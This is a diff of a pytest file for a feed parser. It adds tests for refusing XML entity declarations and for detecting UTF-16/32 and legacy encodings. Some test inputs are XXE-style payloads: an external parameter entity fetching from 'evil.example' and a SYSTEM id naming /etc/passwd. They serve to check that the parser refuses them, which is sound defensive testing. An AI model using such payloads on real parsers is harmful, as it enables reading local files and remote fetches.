@@ -10,7 +10,10 @@ from pathlib import Path
 import pytest
 
 from sources import feedparse
-from sources.feedparse import MAX_ENTRY_CHARS, FeedError, html_to_text, parse_feed
+from sources.feedparse import MAX_ENTRY_CHARS, FeedError, parse_feed
+from sources.fetch import parse_content_type
+from sources.text import html_to_text
+from tests import intl_fixtures as intl
 
 PAGES = Path(__file__).resolve().parent / "data" / "pages"
 FEED_URL = "https://courier.example/feed.xml"
@@ -137,6 +140,13 @@ def test_external_entity_is_refused():
     assert info.value.code == "unsafe_xml"
 
 
+def test_entities_in_utf16_without_a_bom_are_refused():
+    with pytest.raises(FeedError) as info:
+        parse_feed(intl.read("en_utf16be_nobom_entities.xml"), FEED_URL)
+    assert info.value.code == "unsafe_xml"
+    assert "declares XML entities" in str(info.value)
+
+
 def test_bomb_in_utf16_is_refused():
     content = feed("feed_billion_laughs.xml").decode("utf-8").encode("utf-16")
     with pytest.raises(FeedError) as info:
@@ -159,6 +169,52 @@ def test_public_doctype_is_tolerated():
     parsed = parse_feed(rss("<item><title>Old style</title></item>", head), FEED_URL)
     assert parsed.entries[0].title == "Old style"
     assert "removed the document type declaration" in parsed.warnings
+
+
+@pytest.mark.parametrize(
+    ("markup", "kept"),
+    [
+        ("<!DOCTYPE html><html><body><p>A whole page pasted in.</p></body></html>", "pasted"),
+        ('<p>Declare one with <code><!ENTITY x "y"></code> in a DTD.</p>', "Declare one"),
+        ("<!DOCTYPE note [<!ELEMENT note ANY>]><p>Old markup in an entry.</p>", "Old markup"),
+        ('<!DOCTYPE x SYSTEM "file:///etc/passwd"><p>A system id as text.</p>', "system id"),
+    ],
+)
+def test_declarations_inside_content_are_content(markup, kept):
+    """Issue #19: a <!DOCTYPE or <!ENTITY inside CDATA got the whole feed refused."""
+    content = rss(
+        f"<item><title>One</title><description><![CDATA[{markup}]]></description></item>"
+        "<item><title>Two</title><description>Plain.</description></item>"
+    )
+    parsed = parse_feed(content, FEED_URL)
+    assert [e.title for e in parsed.entries] == ["One", "Two"]
+    assert kept in parsed.entries[0].summary
+    assert parsed.warnings == []
+
+
+@pytest.mark.parametrize(
+    "head",
+    [
+        '<!-- <rss> --><?xml-stylesheet href="s.xsl"?><!DOCTYPE rss [<!ENTITY a "b">]>',
+        "<!DOCTYPE rss [\n<!ENTITY % ext SYSTEM 'https://evil.example/x.dtd'> %ext;\n]>",
+        "<!doctype rss [<!ENTITY a 'b'>]>",
+    ],
+)
+def test_entity_declarations_in_the_prolog_are_still_refused(head):
+    with pytest.raises(FeedError) as info:
+        parse_feed(rss("<item><title>x</title></item>", head), FEED_URL)
+    assert info.value.code == "unsafe_xml"
+    assert "declares XML entities" in str(info.value)
+
+
+def test_a_doctype_after_the_root_element_starts_is_not_a_prolog_doctype():
+    """Defence in depth: defusedxml still refuses any DTD that reaches the parser."""
+    content = rss("<item><title>x</title></item>").replace(
+        b"<channel>", b'<channel><!DOCTYPE rss [<!ENTITY a "b">]>'
+    )
+    with pytest.raises(FeedError) as info:
+        parse_feed(content, FEED_URL)
+    assert info.value.code in ("invalid_xml", "unsafe_xml")
 
 
 def test_html_entities_and_control_characters():
@@ -206,7 +262,7 @@ def test_not_a_feed_file_and_html_page():
 
 def test_iso_8859_1_declared():
     parsed = parse_feed(feed("feed_latin1.xml"), "https://courrier.example/rss")
-    assert parsed.encoding == "iso8859-1"
+    assert parsed.encoding == "cp1252"  # browsers read an ISO-8859-1 label as windows-1252
     assert parsed.title == "Le Courrier de Vallée-Fontaine"
     entry = parsed.entries[0]
     assert entry.title == "Le conseil municipal approuve la rénovation du pont Saint-Éloi"
@@ -228,8 +284,74 @@ def test_mislabelled_encoding_is_recovered():
 def test_http_charset_wins_over_the_declaration():
     content = feed("feed_latin1_mislabelled.xml")
     parsed = parse_feed(content, "https://courrier.example/rss", charset="iso-8859-1")
-    assert parsed.encoding == "iso8859-1"
+    assert parsed.encoding == "cp1252"
     assert "Éloi" in parsed.entries[0].title
+
+
+def test_windows_1252_quotes_in_a_feed_labelled_iso_8859_1():
+    content = (
+        b'<?xml version="1.0" encoding="ISO-8859-1"?><rss version="2.0"><channel><title>T</title>'
+        b"<item><title>\x93Late trains\x94 \x96 caf\xe9 update</title></item></channel></rss>"
+    )
+    assert parse_feed(content, FEED_URL).entries[0].title == "“Late trains” – café update"
+
+
+def intl_entries(name: str) -> tuple[list[tuple[str, str]], list[tuple[str, str]], str]:
+    """What the fixture feed ``name`` yields and what it must yield, and its encoding."""
+    original = intl.FEEDS[name]
+    charset = parse_content_type(original["content_type"])[1]
+    parsed = parse_feed(intl.read(name), f"https://feeds.example/{name}", charset=charset)
+    got = [(e.title, e.summary) for e in parsed.entries]
+    expected = [(e["title"], e["text"]) for e in original["entries"]]
+    assert parsed.title == original["title"]
+    return got, expected, parsed.encoding
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "zh_utf16le_nobom.xml",
+        "ko_utf16be_nobom.xml",
+        "ar_utf32le_nobom.xml",
+        "he_utf32be_nobom.xml",
+        "ja_utf16le_bom.xml",
+        "ru_utf16be_bom.xml",
+        "el_utf32le_bom.xml",
+    ],
+)
+def test_utf16_and_utf32_feeds_with_and_without_a_bom(name):
+    """Issue #19: without a BOM these were read as UTF-8 and refused ("XML or text
+    declaration not at start of entity")."""
+    got, expected, encoding = intl_entries(name)
+    assert got == expected
+    assert encoding.startswith(("utf-16", "utf-32"))
+
+
+@pytest.mark.parametrize(
+    ("name", "encoding"),
+    [
+        ("ja_euc_jp.xml", "euc_jp"),
+        ("ja_shift_jis.xml", "cp932"),
+        ("ko_euc_kr.xml", "cp949"),
+        ("ru_koi8r.xml", "koi8-r"),
+        ("th_tis620.xml", "cp874"),
+        ("he_cp1255.xml", "cp1255"),
+        ("ru_cp1251_undeclared.xml", "cp1251"),
+    ],
+)
+def test_undeclared_legacy_feeds_are_detected(name, encoding):
+    """Issue #19: these were decoded as windows-1252 and stored garbled."""
+    got, expected, used = intl_entries(name)
+    assert got == expected
+    assert used == encoding
+
+
+@pytest.mark.parametrize(
+    "name", ["zh_big5.xml", "zh_gb18030.xml", "de_rss_text_type.xml", "fr_cdata_markup.xml"]
+)
+def test_declared_feeds(name):
+    got, expected, _ = intl_entries(name)
+    assert got == expected
 
 
 def test_utf8_bom():
